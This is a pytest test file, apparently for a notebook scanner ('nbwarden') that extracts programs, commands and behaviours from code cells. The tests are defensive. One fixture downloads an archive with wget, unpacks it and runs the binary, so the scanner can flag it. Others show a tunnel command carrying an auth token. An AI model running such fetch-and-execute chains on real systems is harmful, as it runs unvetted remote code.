    assert not any(c.endswith(" -v") for c in cmds)


@pytest.mark.parametrize("line, program", [
    ("taskset -c 0,1 ./w -o h:1", "w"),
    ("taskset 0x3 ./w", "w"),
    ("cpulimit -l 80 -- ./w", "w"),
    ("taskset -c 2 cpulimit -l 50 ./w", "w"),
    ("chrt -i 0 ./w", "w"),
    ("perf record -e cycles -o out.data -- ./w -t 4", "w"),
    ("cpulimit -e w -l 50", "cpulimit"),  # limits a running process: it starts nothing
    ("taskset -p 1234", "taskset"),
    ("perf stat ls", "perf"),             # no '--': left as perf
])
def test_cpu_pinning_and_limit_wrappers_give_the_program_they_start(line, program):
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import SHELL, Unit
    col = Collector()
    col.run(Unit(line + "\n", SHELL))
    assert [f.value for f in col.facts if f.kind == "program"][:1] == [program]


def test_attributes_read_on_a_call_result_are_facts():
    """`connect(8888).public_url`, and `t.public_url` after `t = connect(8888)`: the attribute
    read on what a call returned is an `attr` fact named by the call (`X.connect().public_url`),
    so a returned object's API is seen when the module that made it is renamed. Attributes of
    modules and of names not bound to a call are not facts."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("import numpy as np\nfrom lib import relay\nurl = relay.connect(8888).public_url\n"
                 "t = relay.connect(8501)\nprint(t.public_url)\nx = np.pi + self.size\n"
                 "y = make().inner.deep\nget().strip()\nopen_db().cursor.execute('q')\n"))
    attrs = [f.value for f in col.facts if f.kind == "attr"]
    # a method called on a result (get().strip()) is a call, not a read; open_db().cursor is read
    assert attrs == ["lib.relay.connect().public_url", "lib.relay.connect().public_url", "make().inner",
                     "open_db().cursor"]


def test_an_argv_joined_from_lists_is_read_as_one_command():
    """`Popen(["python", "entry.py"] + args)` with `args` a list of the file: the argv is read
    whole; a part of unknown content is one '?'; `+` of strings or of two unknown names is
    read as before."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("import subprocess\nargs = ['--listen', '--share']\n"
                 "subprocess.Popen(['python', 'entry.py'] + args)\nsubprocess.run(base + ['tcp', '22'])\n"
                 "subprocess.run('ls' + ' -l')\nsubprocess.run(a + b)\n"))
    cmds = [f.value for f in col.facts if f.kind == "command"]
    assert cmds == ["python entry.py --listen --share", "? tcp 22", "ls -l"]


def test_an_exec_style_argv_keeps_its_unknown_arguments_as_placeholders():
    """`create_subprocess_exec("agent", "http", str(port), "--authtoken", token)`: arguments
    whose value is unknown are '?' (as in an argv list), so the command keeps its shape."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import Unit
    col = Collector()
    col.run(Unit("import asyncio\nasync def go(port, token):\n"
                 "    await asyncio.create_subprocess_exec('agent', 'http', str(port), '--authtoken', token)\n"))
    assert [f.value for f in col.facts if f.kind == "command"] == ["agent http ? --authtoken ?"]


def test_options_namespace_filled_in_by_code_is_a_keyword(engine):
    """`args.driven_audio = path` on a parsed-options object reads as the keyword it sets;
    attributes of `self` in class code do not."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import PYTHON, Unit

    def kwargs(code):
        col = Collector()
        col.run(Unit(code, PYTHON))
        return {f.value for f in col.facts if f.kind == "kwarg"}

    got = kwargs("args = get_args()\nargs.driven_audio = wav\nargs.result_dir = '/tmp/out'\n")
    assert {"args:driven_audio=?", "args:result_dir=/tmp/out"} <= got
    assert not {v for v in kwargs("class A:\n    def f(self, x):\n        self.face = x\n") if "face" in v}


def test_a_program_run_from_the_folder_an_archive_was_unpacked_into():
    """``unzip a.zip -d w`` then ``w/x``: the archive kept its execute bits, so no chmod shows;
    the run is a behaviour of its own (``run-unpacked``), also across the units of one file."""
    from nbwarden.engine.extract import Collector
    from nbwarden.engine.model import SHELL, Unit
    col = Collector()
    col.run(Unit("wget https://example.org/a.zip\nunzip a.zip -d linux\ntar -xzf b.tgz -C ./opt/sub\n", SHELL))
    col.run(Unit("linux/tool\nopt/sub/run --x\nother/tool\n7z x c.7z -oz\n./z/w\n", SHELL))
    runs = [f for f in col.facts if f.kind == "behaviour" and f.value == "run-unpacked"]
    assert len(runs) == 3
    col = Collector()
    col.run(Unit("unzip q.zip -d /usr/local\n/usr/local/bin/x\nunzip r.zip\nr/x\n", SHELL))
    assert not [f for f in col.facts if f.kind == "behaviour"]


def test_session_layer_answers_as_a_chainmap_over_the_session_names():
    """A walk's names in a session (``SessionLayer``) read, write, list and record asked
    session variables exactly as ``ChainMap({}, SessionNames(...))`` does."""
    import random
    from collections import ChainMap
    from nbwarden.engine.extract import SessionLayer, SessionNames

    rnd = random.Random(3)
    keys = ["a", "b", "c", "d", "e"]
    for _ in range(300):
        session = {k: rnd.random() for k in rnd.sample(keys, rnd.randint(0, 4))}
        below_a, below_b = SessionNames(session), SessionNames(session)
        ours, theirs = SessionLayer(below_a), ChainMap({}, below_b)
        for _ in range(12):
            k, op = rnd.choice(keys), rnd.randrange(6)
            if op == 0:
                v = rnd.random()
                ours[k] = v
                theirs[k] = v
            elif op == 1:
                assert (k in ours) == (k in theirs)
            elif op == 2:
                assert ours.get(k, "none") == theirs.get(k, "none")
            elif op == 3:
                assert (ours[k] if k in ours else None) == (theirs[k] if k in theirs else None)
            elif op == 4:
                assert {**ours} == {**theirs} and list(ours) == list(theirs) and len(ours) == len(theirs)
            else:
                assert dict(ours.items()) == dict(theirs.items()) and bool(ours) == bool(theirs)
            assert below_a.asked == below_b.asked
        assert ours.own() == theirs.maps[0]
